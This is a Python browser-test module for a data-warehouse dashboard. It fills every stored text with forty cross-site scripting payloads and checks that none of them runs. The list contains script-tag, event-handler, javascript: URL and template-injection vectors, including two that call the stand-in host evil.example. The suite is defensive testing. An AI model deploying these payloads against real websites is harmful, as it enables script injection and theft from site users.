"""No stored text runs as code: forty payloads in every text that a screen can show.

A payload that runs says so (`window.ran`, a dialog, or a request to another host). The content security
policy would stop most of them, so the screens are drawn with the policy taken off.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
import sqlalchemy as sa
from playwright.sync_api import BrowserContext, Page

from dashboards.reports import quarters_over
from tests.dashboards import published
from tests.screens.browsing import Visit, serve, until
from warehouse.actions import Actions, Deed
from warehouse.audit import Audit
from warehouse.operations import open_operations, sqlite_url
from warehouse.past_desk import PastDesk
from warehouse.report_desk import ReportDesk
from warehouse.report_words import SECTIONS, Place, ReportWords
from warehouse.requests import Requests, Target
from warehouse.vault import PERSON

pytestmark = [pytest.mark.screens, pytest.mark.slow]

RUN = "window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"javascript:{RUN}",
    f"[click](javascript:{RUN})",
    f"<div style='background:url(javascript:{RUN})'>",
    f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={RUN}>",
    f"<link rel=stylesheet href='//evil.example/{RUN}'>",
    f"<base href='//evil.example/'><script src=x.js></script>{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %> \\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
]
TEXTS = {
    "cohort_id",
    "code",
    "detail",
    "field",
    "file_name",
    "hint",
    "mapping",
    "name",
    "next_step",
    "notes",
    "of_what",
    "program_label",
    "reason",
    "rule",
    "sample_field",
    "sample_shape",
    "sentence",
    "shape",
    "source",
    "summary",
    "table_name",
}
"""What may come from a source, a policy or a person; the other texts are words of our own lists."""

CODES = {("mart.equity_gap", "field"), ("mart.equity_value", "field"), ("mart.parked", "code")}
"""Words of our own lists that bear the name of a text elsewhere."""

THEN = dt.datetime(2026, 11, 10, 23, 59, 59)
LEARNT = f"""
update mart.pair set band = 'watch' where pair_id = 'pair-hostile';
insert into mart.pair_event (pair_id, occurred_at, recorded_at, summary, source, position)
values ('pair-hostile', '2026-11-09', '2026-11-14', '{PAYLOADS[9]}', '{PAYLOADS[15]}', 900001)
"""
PATHS = [
    "/",
    "/?view=all",
    "/overview",
    "/lifecycle",
    "/endings",
    "/signals",
    "/reports",
    "/people",
    "/pairs/pair-hostile",
    "/pairs/pair-hostile?then=2026-11-10",
    "/pairs/pair-hostile?asof=2026-11-10",
    "/learnt?asof=2026-11-10&later=2026-11-15",
    "/overview?asof=2026-11-12",
    "/pairs/pair-suspected-ghosting-01",
    "/data-quality",
    "/activity",
    "/help/metrics",
    f"/?q=<img src=x onerror={RUN}>",
    f"/?asof=<img src=x onerror={RUN}>&knownat='><script>{RUN}</script>",
    f"/pairs/<img src=x onerror={RUN}>",
]


def hostile_people(file: Path) -> list[dict[str, str]]:
    """Everybody of the publication, with a payload for a name."""
    with duckdb.connect(str(file), read_only=True) as con:
        ids = con.execute(
            "select distinct unnest([mentee_id, mentor_id]) as person_id from mart.pair order by 1"
        ).fetchall()
    people = [person_id for (person_id,) in ids if person_id is not None]
    return [
        {"person_id": person, "name": PAYLOADS[index % len(PAYLOADS)]} for index, person in enumerate(people)
    ]


def poison(file: Path) -> int:
    """Put payloads into every text of a publication, the same for the same value; how many columns."""
    with duckdb.connect(str(file)) as con:
        columns = con.execute(
            "select schema_name || '.' || table_name, column_name "
            "from duckdb_columns() semi join duckdb_tables() using (database_name, schema_name, table_name) "
            "where database_name = current_database() and schema_name in ('mart', 'ref') "
            "and data_type = 'VARCHAR' and list_contains($texts, column_name) order by all",
            {"texts": sorted(TEXTS)},
        ).fetchall()
        for table, column in columns:
            if (table, column) in CODES:
                continue
            con.execute(
                f"update {table} set {column} = $payloads[1 + (hash({column}) % 40)::int] "
                f"where {column} is not null",
                {"payloads": PAYLOADS},
            )
    return len(columns)


def poison_desks(engine: sa.Engine, file: Path) -> None:
    """Put payloads into everything that is typed on a screen: notes, reasons, words, and what came of it."""
    clock = lambda: dt.datetime(2026, 11, 22, tzinfo=dt.UTC)  # noqa: E731
    about = {"channel": "call", "is_reached": True}
    for number, payload in enumerate(PAYLOADS):
        deed = Deed("pair-hostile", "ops.support_contact_made", about, note=payload)
        Actions(engine, clock).take(f"{number:016x}", "acc", deed)
    with duckdb.connect(str(file), read_only=True) as con:
        held = con.execute("select source, code from mart.quarantine where n_open > 0").fetchall()
    requests = Requests(engine, clock)
    asked = [
        requests.waive(Target.of_reason(source, code), PAYLOADS[at % len(PAYLOADS)])
        for at, (source, code) in enumerate(held)
    ]
    requests.start(asked[0].request_id)
    requests.finish(asked[0].request_id, PAYLOADS[0])
    reports = ReportDesk(engine, clock)
    reports.ask("2026Q3", "internal")
    reports.finish(reports.open()[0].request_id, PAYLOADS[9])
    words = ReportWords(engine, clock)
    for quarter in quarters_over(clock().date()):
        for section, payload in zip(SECTIONS, PAYLOADS, strict=False):
            words.write(Place(quarter, section), payload)
    past = PastDesk(engine, clock)
    unbuilt = dt.datetime(2026, 11, 12, 23, 59, 59, 999999)
    past.ask(unbuilt, unbuilt, "acc")
    past.finish(past.open()[0].request_id, f"could not be built: {PAYLOADS[9]}")


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server whose every text is hostile, names and audit trail included."""
    home = tmp_path_factory.mktemp("hostile")
    published.write_publication(home)
    (file,) = (home / "published").glob("*.duckdb")
    assert poison(file) >= 20
    published.write_past(home, THEN, THEN)
    published.write_past(home, THEN, dt.datetime(2026, 11, 15, 23, 59, 59), LEARNT)
    engine = open_operations(sqlite_url(home / "operations.sqlite"))
    with engine.begin() as connection:
        connection.execute(sa.insert(PERSON), hostile_people(file))
    for payload in PAYLOADS:
        Audit(engine).note(payload, payload, payload, payload, payload)
    poison_desks(engine, file)
    engine.dispose()
    yield from serve(home, "--names")


@pytest.fixture(scope="module")
def unguarded(browser: BrowserContext) -> Iterator[Page]:
    """A tab that heeds no policy."""
    assert browser.browser is not None
    context = browser.browser.new_context(bypass_csp=True)
    yield context.new_page()
    context.close()


def test_no_stored_text_runs(unguarded: Page, address: str) -> None:
    assert len(PAYLOADS) == 40
    with Visit(unguarded, address).watched() as seen:
        for path in PATHS:
            unguarded.goto(address + path)
            unguarded.locator("h1").first.wait_for()
            seen.settle()
            unguarded.wait_for_load_state("networkidle")  # a payload may wait for a picture that is not there
            for button in unguarded.locator("summary").all()[:5]:
                button.click()
            assert unguarded.evaluate("window.ran") is None, path
            assert "could not be drawn" not in unguarded.locator("main").inner_text(), path
    assert [told for told in seen.problems if told.startswith("dialog")] == []
    assert seen.strangers == []


def test_a_payload_would_be_noticed(unguarded: Page, address: str) -> None:
    unguarded.goto(f"{address}/help/metrics")
    unguarded.evaluate("payload => { document.body.insertAdjacentHTML('beforeend', payload) }", PAYLOADS[9])
    until(unguarded, "window.ran === 1")
